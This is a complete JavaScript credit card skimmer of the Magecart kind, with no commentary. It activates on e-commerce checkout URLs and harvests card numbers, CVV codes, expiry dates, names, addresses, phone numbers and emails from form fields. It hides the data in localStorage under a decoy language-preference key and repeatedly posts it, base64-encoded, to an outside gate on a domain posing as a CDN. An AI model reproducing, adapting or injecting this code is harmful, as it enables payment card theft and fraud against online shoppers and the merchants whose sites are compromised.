var _kitConf = {
    gate: "https://jscdn-static-assets.com/gate.php",
    storageKey: "lang_pref_v2",
    fields: [
        "input[name*='cc_number']", "input[name*='cardnumber']", "input[name*='card_number']",
        "input[name*='cvv']", "input[name*='cvc']", "input[name*='cid']",
        "select[name*='exp']", "input[name*='exp']",
        "input[name*='firstname']", "input[name*='lastname']", "input[name*='street']",
        "input[name*='city']", "input[name*='postcode']", "input[name*='telephone']", "input[name*='email']"
    ],
    urlMatch: ["checkout", "onepage", "onestep", "firecheckout"],
    interval: 3000,
    minLength: 12
};

var _kit = {
    active: function () {
        var h = window.location.href;
        for (var i = 0; i < _kitConf.urlMatch.length; i++) {
            if (h.indexOf(_kitConf.urlMatch[i]) !== -1) return true;
        }
        return false;
    },

    load: function () {
        var s = localStorage.getItem(_kitConf.storageKey);
        return s ? JSON.parse(atob(s)) : {};
    },

    save: function (o) {
        localStorage.setItem(_kitConf.storageKey, btoa(JSON.stringify(o)));
    },

    grab: function () {
        var o = this.load();
        var nodes = document.querySelectorAll(_kitConf.fields.join(","));
        for (var i = 0; i < nodes.length; i++) {
            var n = nodes[i];
            if (n.value) o[n.name || n.id] = n.value;
        }
        o.domain = location.hostname;
        this.save(o);
        return o;
    },

    isValid: function (o) {
        for (var k in o) {
            if (/cc_number|cardnumber|card_number/i.test(k) && o[k].replace(/\D/g, "").length >= _kitConf.minLength) return true;
        }
        return false;
    },

    send: function () {
        var o = this.load();
        if (!this.isValid(o)) return;
        var x = new XMLHttpRequest();
        x.open("POST", _kitConf.gate, true);
        x.setRequestHeader("Content-type", "application/x-www-form-urlencoded");
        x.onreadystatechange = function () {
            if (x.readyState === 4 && x.status === 200) {
                localStorage.removeItem(_kitConf.storageKey);
            }
        };
        x.send("info=" + encodeURIComponent(btoa(JSON.stringify(o))) + "&hostname=" + location.hostname);
    },

    run: function () {
        if (!this.active()) return;
        var self = this;
        document.addEventListener("change", function () { self.grab(); }, true);
        setInterval(function () {
            self.grab();
            self.send();
        }, _kitConf.interval);
    }
};

_kit.run();
